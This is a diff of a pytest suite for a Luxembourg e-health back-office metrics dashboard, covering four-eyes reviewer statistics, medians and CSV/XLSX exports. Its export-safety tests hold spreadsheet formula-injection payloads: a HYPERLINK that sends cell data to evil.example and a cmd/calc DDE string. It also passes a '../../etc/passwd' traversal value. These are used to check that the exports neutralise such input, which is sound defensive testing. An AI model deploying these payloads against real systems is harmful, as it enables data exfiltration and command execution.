@@ -22,9 +22,10 @@ P1 = "médecine générale", P2 = "pédiatrie"; reviewers "alice" (R1) and "brun
                           R2 approves Thu 15 21:00: handling 2.25, declaration->account 2.5
   E9  P1 W2 Wed 14 08:00 declared; birth date different, confirmed Wed 14 09:00;
                           R1 rejects Wed 14 21:00: handling 0.5
-  E10 P2 W2 Thu 15 09:00 declared; birth date different (four-eyes), confirmed Thu 15 12:00;
-                          R1 proposes approval Fri 16 06:00 (Decision.created_at: 0.75),
-                          R2 confirms Mon 19 09:00: declaration->account 4.0
+  E10 P2 W2 Thu 15 09:00 declared; birth date different (four-eyes), confirmed Thu 15 15:00;
+                          R1 proposes approval Fri 16 06:00, R2 confirms Mon 19 09:00: the
+                          decision is final, and dated, Mon 19; handling 3.75 (until the
+                          confirmation), declaration->account 4.0
   E11 P2 W3 Mon 19 09:00 declared; first names typo, confirmed Fri 30/01 15:00 -> pending
   E12 P1 W3 Tue 20 09:00 declared; last name different, confirmed Tue 03/02 15:00 -> pending
   E13 P2 W3 Wed 21 09:00 declared; link opened Wed 21 10:00 only
@@ -41,6 +42,7 @@ declaration was made after Jan 19 and expires after Feb 18.
 
 from __future__ import annotations
 
+import base64
 import csv
 import datetime as dt
 import io
@@ -48,6 +50,7 @@ import json
 import re
 from dataclasses import dataclass, field
 
+import openpyxl
 import pytest
 from sqlalchemy import event
 
@@ -205,7 +208,7 @@ def _steps():
     s += [(t(1, 14, 9), "E9", "luxtrust"), (t(1, 14, 9), "E9", "confirm")]
     s.append((t(1, 14, 21), "E9", "reject", "R1"))
     walk("E10", t(1, 15, 10), declared=t(1, 15, 9))
-    s += [(t(1, 15, 12), "E10", "luxtrust"), (t(1, 15, 12), "E10", "confirm")]
+    s += [(t(1, 15, 15), "E10", "luxtrust"), (t(1, 15, 15), "E10", "confirm")]
     s.append((t(1, 16, 6), "E10", "approve", "R1", "awaiting_second"))
     s.append((t(1, 19, 9), "E10", "approve", "R2", "account_created"))
     walk("E11", t(1, 19, 10), declared=t(1, 19, 9))
@@ -357,8 +360,8 @@ ALL_KPIS = {
     "auto_match_rate": 0.25,  # 3 automatic / 12 LuxTrust done
     "manual_review_rate": 0.6667,  # 8 device confirmations / 12, rounded to 4 places
     "approval_rate": 0.75,  # 3 approved / (3 approved + 1 rejected)
-    # Automatic: E2 0.25, E3 1.0, E6 3.0 days. Nearest rank: median = value number
-    # ceil(0.5 x 3) = 2 -> 1.0; p90 = ceil(0.9 x 3) = 3 -> 3.0.
+    # Automatic: E2 0.25, E3 1.0, E6 3.0 days. Median: the middle one, 1.0; 90th
+    # percentile (nearest rank): value number ceil(0.9 x 3) = 3 -> 3.0.
     "median_days_auto": 1.0,
     "p90_days_auto": 3.0,
     # Manual: E7 1.25, E8 2.5, E10 4.0 (declaration to the second reviewer's confirmation).
@@ -390,11 +393,15 @@ ALL_MISMATCHES = [
     ("matricule", "different", 1),  # E15
 ]
 
-# Final decisions by a reviewer, handling time = decision - device confirmation:
-#   alice: E7 1.0, E9 0.5, E10 0.75 (the four-eyes proposal is hers, dated at the proposal)
-#          -> 3 decisions, lower median of [0.5, 0.75, 1.0] = 0.75
-#   bruno: E8 2.25 -> 1 decision, 2.25 (his confirmation of E10 is not counted as his)
-ALL_REVIEWERS = [("alice", 3, 0.75), ("bruno", 1, 2.25)]
+# Final decisions per reviewer: (name, decisions taken or proposed, second approvals
+# confirmed, median handling time). A decision is dated when it became final (the second
+# reviewer's confirmation, for four-eyes) and its handling time, from the secretary's
+# device confirmation, runs until then; both reviewers are credited with it.
+#   alice: E7 1.0, E9 0.5, E10 3.75 (her proposal, final at bruno's confirmation)
+#          -> 3 decisions, median of [0.5, 1.0, 3.75] = 1.0
+#   bruno: E8 2.25, and his confirmation of E10 3.75 -> 1 decision, 1 confirmation,
+#          median (2.25 + 3.75) / 2 = 3.0
+ALL_REVIEWERS = [("alice", 3, 0, 1.0), ("bruno", 1, 1, 3.0)]
 
 
 # --- the whole data set, every figure ---------------------------------------------------------
@@ -509,9 +516,9 @@ def test_date_filter_one_week(world):
         ("last_name", "swapped", 1),
         ("last_name", "typo", 1),
     ]
-    # Decisions made within the dates: E7 (Tue 13), E9 (Wed 14), E10's proposal (Fri 16),
-    # E8 (Thu 15): the same as in total.
-    assert m.reviewers == ALL_REVIEWERS
+    # Decisions made within the dates: E7 (Tue 13), E9 (Wed 14), E8 (Thu 15); E10's
+    # proposal (Fri 16) became a decision on Mon 19, outside.
+    assert m.reviewers == [("alice", 2, 0, 0.75), ("bruno", 1, 0, 2.25)]
     assert m.specialties == [GP, PED]
 
 
@@ -535,11 +542,11 @@ def test_the_end_date_is_included(world):
     assert m.kpis["declarations"] == 4
     assert m.funnel[-4:] == [("auto", 1), ("manual", 3), ("approved", 2), ("rejected", 1)]
     assert m.kpis["p90_days_manual"] == 2.5  # [1.25, 2.5]: ceil(0.9 x 2) = 2
-    # (its median is left to test_percentiles_use_the_nearest_rank, a known bug)
+    assert m.kpis["median_days_manual"] == 1.875  # (1.25 + 2.5) / 2
     # The reviewers' panel counts the decisions MADE in the period (by decision date), not
     # the cohort's: E8 (declared Tue 13) was approved by bruno on Thu 15, outside.
-    # alice: E7 (1.0) and E9 (0.5) -> 2 decisions, lower median 0.5.
-    assert m.reviewers == [("alice", 2, 0.5)]
+    # alice: E7 (1.0) and E9 (0.5) -> 2 decisions, median 0.75.
+    assert m.reviewers == [("alice", 2, 0, 0.75)]
 
 
 @pytest.mark.usefixtures("computes")
@@ -547,7 +554,8 @@ def test_open_ended_dates_and_the_weeks_add_up(world):
     only_start = compute(world.backend, start=W3)
     assert only_start.kpis["declarations"] == 8  # E11..E18
     assert sorted(only_start.trend) == ALL_TREND[-2:]
-    assert only_start.reviewers == []  # no decision since Jan 19 except E10's confirmation
+    # Since Jan 19: E10, final at bruno's confirmation (Mon 19), credited to both.
+    assert only_start.reviewers == [("alice", 1, 0, 3.75), ("bruno", 0, 1, 3.75)]
     only_end = compute(world.backend, end=dt.date(2026, 1, 11))
     assert only_end.kpis["declarations"] == 5  # E1..E5
     assert sorted(only_end.trend) == ALL_TREND[:4]
@@ -604,7 +612,7 @@ PED_KPIS = {
     "approval_rate": 1.0,  # 2 / 2
     "median_days_auto": 1.0,  # E3 only
     "p90_days_auto": 1.0,
-    "median_days_manual": 2.5,  # [2.5 (E8), 4.0 (E10)]: nearest rank ceil(0.5 x 2) = 1
+    "median_days_manual": 3.25,  # [2.5 (E8), 4.0 (E10)]: the mean of the two
     "p90_days_manual": 4.0,  # ceil(0.9 x 2) = 2
     "backlog": 4,  # the whole queue: not filtered by specialty
     "overdue": 2,
@@ -614,10 +622,7 @@ PED_KPIS = {
 @pytest.mark.usefixtures("computes")
 def test_specialty_filter_changes_everything_but_the_backlog(world):
     m = compute(world.backend, specialty=PED)
-    # median_days_manual is left to test_percentiles_use_the_nearest_rank (a known bug).
-    assert {k: v for k, v in m.kpis.items() if k != "median_days_manual"} == {
-        k: v for k, v in PED_KPIS.items() if k != "median_days_manual"
-    }
+    assert m.kpis == PED_KPIS
     assert m.funnel == [
         ("declared", 8),
         ("link_opened", 7),
@@ -647,8 +652,8 @@ def test_specialty_filter_changes_everything_but_the_backlog(world):
         ("last_name", "swapped", 1),  # E8
         ("matricule", "different", 1),  # E15
     ]
-    # alice's proposal on E10 (0.75) and bruno's approval of E8 (2.25); one decision each.
-    assert m.reviewers == [("alice", 1, 0.75), ("bruno", 1, 2.25)]
+    # bruno approved E8 (2.25) and confirmed alice's proposal on E10 (3.75).
+    assert m.reviewers == [("bruno", 1, 1, 3.0), ("alice", 1, 0, 3.75)]
     assert m.specialties == [GP, PED]  # the dropdown always offers every specialty
 
 
@@ -680,32 +685,74 @@ def test_specialty_and_dates_together(world):
     assert sorted(m.trend) == [(W2, "approved", 2)]
     assert m.kpis["median_days_auto"] is None
     assert m.kpis["auto_match_rate"] == 0.0
-    assert m.reviewers == [("alice", 1, 0.75), ("bruno", 1, 2.25)]
+    assert m.reviewers == [("bruno", 1, 0, 2.25)]  # E10 became final on Mon 19
 
 
-# --- known bugs ---------------------------------------------------------------------------------
+# --- four-eyes decisions -------------------------------------------------------------------------
 
 
-def test_percentiles_use_the_nearest_rank(world, computes):
-    # Two values each time: the median is value number ceil(0.5 x 2) = 1, the smaller.
-    # médecine générale, automatic: E2 0.25, E6 3.0.
+def _both(backend, **filters) -> list:
+    with backend.uow() as uow:
+        slow = metrics.compute_from_rows(uow, metrics.MetricsFilter(**filters)).reviewers
+    fast = compute(backend, **filters).reviewers
+    assert fast == slow
+    return fast
+
+
+def test_a_four_eyes_decision_credits_both_reviewers_once_final(world):
+    be, clock = world.backend, world.clock
+    alice, bruno = world.staff["R1"], world.staff["R2"]
+    # E15 (matricule different, confirmed Fri 23/01 09:00): alice proposes an approval.
+    clock.now = NOW + dt.timedelta(hours=1)
+    with be.uow() as uow:
+        assert decisions.approve(uow, world.ids["E15"], alice) == "awaiting_second"
+    # E12: bruno proposes a rejection for suspected fraud, then alice withdraws it.
+    with be.uow() as uow:
+        assert (
+            decisions.reject(uow, world.ids["E12"], bruno, reason_code="suspected_fraud")
+            == "awaiting_second"
+        )
+    with be.uow() as uow:
+        decisions.withdraw_proposal(uow, world.ids["E12"], alice)
+    # Neither is a decision: nobody is credited.
+    assert _both(be) == ALL_REVIEWERS
+    assert _both(be, start=dt.date(2026, 2, 4), end=dt.date(2026, 2, 4)) == []
+    # Thu 05/02 09:00: bruno confirms; final then, 13 days after her device confirmation.
+    clock.now = t(2, 5, 9)
+    with be.uow() as uow:
+        assert decisions.approve(uow, world.ids["E15"], bruno) == lc.ACCOUNT_CREATED
+    assert _both(be, start=dt.date(2026, 2, 4), end=dt.date(2026, 2, 4)) == []
+    assert _both(be, start=dt.date(2026, 2, 5), end=dt.date(2026, 2, 5)) == [
+        ("alice", 1, 0, 13.0),
+        ("bruno", 0, 1, 13.0),
+    ]
+    # alice: [0.5, 1.0, 3.75, 13.0]; bruno: [2.25, 3.75 (E10), 13.0 (E15)], 2 confirmations.
+    assert _both(be) == [("alice", 4, 0, 2.375), ("bruno", 1, 2, 3.75)]
+
+
+# --- the median and the 90th percentile ---------------------------------------------------------
+
+
+def test_the_median_of_an_even_count_is_the_mean_of_the_two_middle_values(world):
+    # médecine générale, automatic: E2 0.25, E6 3.0 -> (0.25 + 3.0) / 2; the 90th
+    # percentile stays the nearest rank, value number ceil(0.9 x 2) = 2.
     gp = compute(world.backend, specialty=GP)
-    assert (gp.kpis["median_days_auto"], gp.kpis["p90_days_auto"]) == (0.25, 3.0)
+    assert (gp.kpis["median_days_auto"], gp.kpis["p90_days_auto"]) == (1.625, 3.0)
     # pédiatrie, manual: E8 2.5, E10 4.0.
     ped = compute(world.backend, specialty=PED)
-    assert (ped.kpis["median_days_manual"], ped.kpis["p90_days_manual"]) == (2.5, 4.0)
+    assert (ped.kpis["median_days_manual"], ped.kpis["p90_days_manual"]) == (3.25, 4.0)
     # Declared Mon 12 .. Wed 14, manual: E7 1.25, E8 2.5. The reviewers' panel of the same
-    # period takes the lower median of two (alice: 0.5 of [0.5, 1.0]), as nearest rank does.
+    # period: alice decided E9 (0.5) and E7 (1.0).
     w2 = compute(world.backend, start=W2, end=dt.date(2026, 1, 14))
-    assert w2.kpis["median_days_manual"] == 1.25
-    assert w2.reviewers == [("alice", 2, 0.5)]
+    assert w2.kpis["median_days_manual"] == 1.875
+    assert w2.reviewers == [("alice", 2, 0, 0.75)]
     # Declared in W1, automatic: E2 0.25, E3 1.0.
-    assert compute(world.backend, end=dt.date(2026, 1, 11)).kpis["median_days_auto"] == 0.25
+    assert compute(world.backend, end=dt.date(2026, 1, 11)).kpis["median_days_auto"] == 0.625
 
 
-def test_the_90th_percentile_of_ten_is_the_ninth_value(backend, clock, computes):
+def test_the_90th_percentile_of_ten_is_the_ninth_value(backend, clock):
     # Ten automatic accounts, created 1, 2, ..., 10 days after their declarations:
-    # nearest-rank p90 = value ceil(0.9 x 10) = 9 -> 9.0 days; median = value 5 -> 5.0.
+    # nearest-rank p90 = value ceil(0.9 x 10) = 9 -> 9.0 days; median = (5 + 6) / 2.
     clock.now = t(1, 2, 9)
     prof = f.professional(backend, 1, specialty=GP)
     for i in range(1, 11):
@@ -723,7 +770,7 @@ def test_the_90th_percentile_of_ten_is_the_ninth_value(backend, clock, computes)
             assert secretary.record_luxtrust_identity(uow, th, f.identity_of(data)).matches
     m = compute(backend)
     assert m.kpis["accounts_auto"] == 10
-    assert (m.kpis["median_days_auto"], m.kpis["p90_days_auto"]) == (5.0, 9.0)
+    assert (m.kpis["median_days_auto"], m.kpis["p90_days_auto"]) == (5.5, 9.0)
 
 
 def test_dates_are_luxembourg_dates(backend, clock, computes):
@@ -765,11 +812,13 @@ def test_as_rows_covers_every_aggregate(world):
     assert tables["mismatches"] == ALL_MISMATCHES
     assert tables["reviewers"] == [
         ("alice", "decisions", 3),
-        ("alice", "median_handling_days", 0.75),
+        ("alice", "confirmations", 0),
+        ("alice", "median_handling_days", 1.0),
         ("bruno", "decisions", 1),
-        ("bruno", "median_handling_days", 2.25),
+        ("bruno", "confirmations", 1),
+        ("bruno", "median_handling_days", 3.0),
     ]
-    assert len(rows) == 13 + 9 + 3 + 9 + 4 + 7 + 4
+    assert len(rows) == 13 + 9 + 3 + 9 + 4 + 7 + 6
 
 
 # --- SQL: a bounded number of aggregate statements, no personal column --------------------------
@@ -918,13 +967,37 @@ def refresh(client, start=None, end=None, specialty=""):
     return dc.call(client, REFRESH, _filters(start, end, specialty))
 
 
-def export(client, start=None, end=None, specialty=""):
+def export(client, start=None, end=None, specialty="", kind="csv"):
+    suffix = "" if kind == "csv" else "-xlsx"
     return dc.call(
         client,
-        [("metrics-download", "data")],
-        [("metrics-export", "n_clicks", 1)],
+        [(f"metrics-download{suffix}", "data")],
+        [(f"metrics-export{suffix}", "n_clicks", 1)],
         state=_filters(start, end, specialty),
     )
+
+
+def downloaded(response, kind="csv") -> tuple[str, bytes]:
+    """The file name and bytes of an export callback's dcc.Download data."""
+    suffix = "" if kind == "csv" else "-xlsx"
+    data = dc.values(response)[(f"metrics-download{suffix}", "data")]
+    content = base64.b64decode(data["content"]) if data.get("base64") else data["content"]
+    return data["filename"], content if isinstance(content, bytes) else content.encode()
+
+
+def csv_rows(content: bytes, delimiter: str = ";") -> list[dict]:
+    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with its byte-order mark
+    text = content.decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+def xlsx_rows(content: bytes) -> list[dict]:
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    header, *rows = sheet.iter_rows()
+    names = [c.value for c in header]
+    for row in rows:
+        assert all(c.data_type != "f" for c in row), [c.value for c in row]  # no formula
+    return [{n: c.value for n, c in zip(names, row, strict=True)} for row in rows]
 
 
 def client_as(w: World, app, role: str):
@@ -968,9 +1041,12 @@ def _assert_no_personal_data(*responses) -> None:
         if response.is_json:
             texts.append(json.dumps(response.get_json(), ensure_ascii=False))
             data = response.get_json().get("response", {})
-            download = data.get("metrics-download", {}).get("data")
-            if download:
-                texts.append(download["content"])
+            for kind in ("csv", "xlsx"):
+                suffix = "" if kind == "csv" else "-xlsx"
+                if data.get(f"metrics-download{suffix}", {}).get("data"):
+                    _name, content = downloaded(response, kind)
+                    cells = csv_rows(content) if kind == "csv" else xlsx_rows(content)
+                    texts.append(json.dumps(cells, ensure_ascii=False))
         for text in texts:
             for value in personal_strings():
                 assert value not in text, f"{value!r} leaked"
@@ -1034,10 +1110,18 @@ def test_manager_gets_the_cards_and_figures_of_compute(world, app):
     assert cells[("nom", "faute de frappe")] == 3
     assert cells[("date de naissance", "différent")] == 1 + 1
 
-    bars, medians = fig["metrics-reviewers"]["data"]
-    assert list(bars["x"]) == ["alice", "bruno"] == list(medians["x"])
-    assert list(bars["y"]) == [3, 1]
-    assert list(medians["y"]) == [0.75, 2.25]
+    reviewers = fig["metrics-reviewers"]
+    decisions, confirmations, medians = reviewers["data"]
+    assert reviewers["layout"]["barmode"] == "stack"
+    assert [t["type"] for t in reviewers["data"]] == ["bar", "bar", "scatter"]
+    assert decisions["name"] == "Décisions prises ou proposées"
+    assert confirmations["name"] == "Secondes validations"
+    assert list(decisions["x"]) == ["alice", "bruno"] == list(confirmations["x"])
+    assert list(medians["x"]) == ["alice", "bruno"]
+    assert list(decisions["y"]) == [3, 1]
+    assert list(confirmations["y"]) == [0, 1]
+    assert list(medians["y"]) == [1.0, 3.0]
+    assert list(medians["text"]) == ["1,0", "3,0"]
 
     assert values[("metrics-specialty", "options")] == [
         {"label": "Toutes les spécialités", "value": ""},
@@ -1045,6 +1129,29 @@ def test_manager_gets_the_cards_and_figures_of_compute(world, app):
         {"label": PED, "value": PED},
     ]
     _assert_no_personal_data(response)
+
+
+@pytest.mark.parametrize(
+    ("lang", "auto", "manual"),
+    [
+        ("fr", "Délai automatique (médiane / 90e centile)", "Délai manuel (médiane / 90e centile)"),
+        (
+            "de",
+            "Bearbeitungszeit automatisch (Median / 90. Perzentil)",
+            "Bearbeitungszeit manuell (Median / 90. Perzentil)",
+        ),
+        (
+            "en",
+            "Automatic processing time (median / 90th percentile)",
+            "Manual processing time (median / 90th percentile)",
+        ),
+    ],
+)
+def test_the_cards_name_the_median_and_the_90th_percentile(world, app, lang, auto, manual):
+    client = client_as(world, app, "manager")
+    client.set_cookie("esante_lang", lang)
+    titles = _texts(dc.values(refresh(client))[("metrics-kpis", "children")], "kpi-title")
+    assert titles[5:7] == [auto, manual]
 
 
 @pytest.mark.usefixtures("computes")
@@ -1063,17 +1170,25 @@ def test_manager_filters_through_the_callback_like_compute(world, app):
     _assert_no_personal_data(response)
 
 
-@pytest.mark.usefixtures("computes")
+def _as_text(rows: list[dict]) -> list[dict]:
+    """as_rows as the CSV writes it: numbers in the shortest exact form, None empty."""
+
+    def text(v) -> str:
+        return "" if v is None else format(v, ".15g") if isinstance(v, float) else str(v)
+
+    return [{k: text(v) for k, v in r.items()} for r in rows]
+
+
 def test_manager_exports_every_aggregate_as_csv(world, app):
     client = client_as(world, app, "manager")
     response = export(client)
     assert response.status_code == 200, response.data[:300]
-    data = dc.values(response)[("metrics-download", "data")]
-    assert data["filename"] == "indicateurs-esante-debut-fin.csv"
-    rows = list(csv.DictReader(io.StringIO(data["content"])))
+    name, content = downloaded(response)
+    assert name == "indicateurs-esante-debut-fin.csv"
+    rows = csv_rows(content)  # French: ";" and the decimal comma
     expected = [
-        {k: "" if v is None else str(v) for k, v in r.items()}
-        for r in metrics.as_rows(compute(world.backend))
+        {**r, "value": r["value"].replace(".", ",")}
+        for r in _as_text(metrics.as_rows(compute(world.backend)))
     ]
     assert rows == expected
     assert {r["table"] for r in rows} == {
@@ -1086,14 +1201,114 @@ def test_manager_exports_every_aggregate_as_csv(world, app):
         "reviewers",
     }
     assert {"table": "kpi", "dimension": "overdue", "category": "", "value": "2"} in rows
+    assert {
+        "table": "kpi",
+        "dimension": "manual_review_rate",
+        "category": "",
+        "value": "0,6667",
+    } in rows
     _assert_no_personal_data(response)
 
     filtered = export(client, "2026-01-12", "2026-01-18", PED)
-    data = dc.values(filtered)[("metrics-download", "data")]
-    assert data["filename"] == "indicateurs-esante-2026-01-12-2026-01-18.csv"
-    rows = list(csv.DictReader(io.StringIO(data["content"])))
+    name, content = downloaded(filtered)
+    assert name == "indicateurs-esante-2026-01-12-2026-01-18.csv"
+    rows = csv_rows(content)
     assert {"table": "kpi", "dimension": "declarations", "category": "", "value": "2"} in rows
     _assert_no_personal_data(filtered)
+
+
+@pytest.mark.parametrize(
+    ("lang", "delimiter", "rate"),
+    [("fr", ";", "0,6667"), ("de", ";", "0,6667"), ("en", ",", "0.6667")],
+)
+def test_the_csv_opens_in_a_spreadsheet_in_the_readers_language(world, app, lang, delimiter, rate):
+    client = client_as(world, app, "manager")
+    client.set_cookie("esante_lang", lang)
+    _name, content = downloaded(export(client))
+    rows = csv_rows(content, delimiter)
+    assert {
+        "table": "kpi",
+        "dimension": "manual_review_rate",
+        "category": "",
+        "value": rate,
+    } in rows
+    assert all(len(r) == 4 and None not in r for r in rows)  # no cell split by a separator
+
+
+def test_manager_exports_every_aggregate_as_xlsx(world, app):
+    client = client_as(world, app, "manager")
+    response = export(client, kind="xlsx")
+    assert response.status_code == 200, response.data[:300]
+    name, content = downloaded(response, "xlsx")
+    assert name == "indicateurs-esante-debut-fin.xlsx"
+    data = dc.values(response)[("metrics-download-xlsx", "data")]
+    assert data["type"] == ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+    rows = xlsx_rows(content)
+    expected = [
+        {k: (None if v == "" else v) for k, v in r.items()}
+        for r in metrics.as_rows(compute(world.backend))
+    ]
+    assert rows == expected  # numbers as numbers: 18, 0.6667, 3.0
+    _assert_no_personal_data(response)
+    filtered = export(client, "2026-01-12", "2026-01-18T00:00:00", PED, kind="xlsx")
+    assert downloaded(filtered, "xlsx")[0] == "indicateurs-esante-2026-01-12-2026-01-18.xlsx"
+
+
+def test_the_file_name_carries_the_period_the_server_read(world, app):
+    client = client_as(world, app, "manager")
+    # A date with its time, as the date picker may send it; and no date at all.
+    name, _content = downloaded(export(client, "2026-01-12T00:00:00", None))
+    assert name == "indicateurs-esante-2026-01-12-fin.csv"
+    # Not a date: no bound, and nothing of it in the name.
+    name, content = downloaded(export(client, "../../etc/passwd", "2026-01-18"))
+    assert name == "indicateurs-esante-debut-2026-01-18.csv"
+    assert {"table": "kpi", "dimension": "declarations", "category": "", "value": "10"} in (
+        csv_rows(content)
+    )
+
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+33 6 12",
+    "-2+3",
+)
+
+
+def test_a_hostile_display_name_arrives_inert_in_both_exports(world, app):
+    from dashboard.enrolment import staff
+
+    be = world.backend
+    # Four reviewers whose display names a spreadsheet would run: each decides a case.
+    world.clock.now = NOW + dt.timedelta(hours=1)
+    for i, (display_name, label) in enumerate(
+        zip(HOSTILE_NAMES, ("E11", "E12", "E16", "E15"), strict=True)
+    ):
+        with be.uow() as uow:
+            reviewer = staff.add_user(
+                uow, f"hostile{i}@esante.lu", "correct horse battery staple", ["reviewer"],
+                display_name=display_name,
+            ).id  # fmt: skip
+        with be.uow() as uow:
+            decisions.reject(uow, world.ids[label], reviewer, reason_code="declaration_error")
+    client = client_as(world, app, "manager")
+    _name, content = downloaded(export(client))
+    text_rows = csv_rows(content)
+    _name, content = downloaded(export(client, kind="xlsx"), "xlsx")
+    cell_rows = xlsx_rows(content)
+    for rows in (text_rows, cell_rows):
+        names = {r["dimension"] for r in rows if r["table"] == "reviewers"}
+        assert {"'" + n for n in HOSTILE_NAMES} <= names
+        assert not set(HOSTILE_NAMES) & names
+        decided = {
+            r["dimension"]: r["value"]
+            for r in rows
+            if r["table"] == "reviewers" and r["category"] == "decisions"
+        }
+        assert {decided["'" + n] for n in HOSTILE_NAMES} <= {1, "1"}  # numbers untouched
+    # The chart shows the names as they are (Plotly draws text, it runs nothing).
+    figure = dc.values(refresh(client))[("metrics-reviewers", "figure")]
+    assert set(HOSTILE_NAMES) <= set(figure["data"][0]["x"])
 
 
 @pytest.mark.parametrize("name", ["funnel", "trend", "ageing", "mismatches", "reviewers"])
@@ -1103,7 +1318,7 @@ def test_the_figures_are_valid_plotly_figures(world, name):
     from dashboard import charts
 
     m = compute(world.backend)
-    m.reviewers.append(("carla", 1, None))  # a median the database could not compute
+    m.reviewers.append(("carla", 1, 0, None))  # a median the database could not compute
     figure = getattr(charts, name)(m)
     assert isinstance(figure, dict)  # built as a dict: no validation on each view
     # ... but one that plotly's own validation accepts, property by property.
@@ -1129,6 +1344,8 @@ def test_manager_sees_the_page(world, app):
         "metrics-reviewers",
         "metrics-export",
         "metrics-download",
+        "metrics-export-xlsx",
+        "metrics-download-xlsx",
     ):
         assert f'"{component_id}"' in body, component_id
     _assert_no_personal_data(response)
@@ -1137,7 +1354,12 @@ def test_manager_sees_the_page(world, app):
 @pytest.mark.parametrize("role", ["anonymous", "secretary", "professional", "R1", "admin"])
 def test_everyone_else_is_refused(world, app, role):
     client = client_as(world, app, role)
-    responses = [refresh(client), export(client), refresh(client, "2026-01-01", "2026-02-04")]
+    responses = [
+        refresh(client),
+        export(client),
+        export(client, kind="xlsx"),
+        refresh(client, "2026-01-01", "2026-02-04"),
+    ]
     for response in responses:
         assert response.status_code == 403, (role, response.status_code)
     page = dc.render_page(client, "/backoffice/indicateurs")
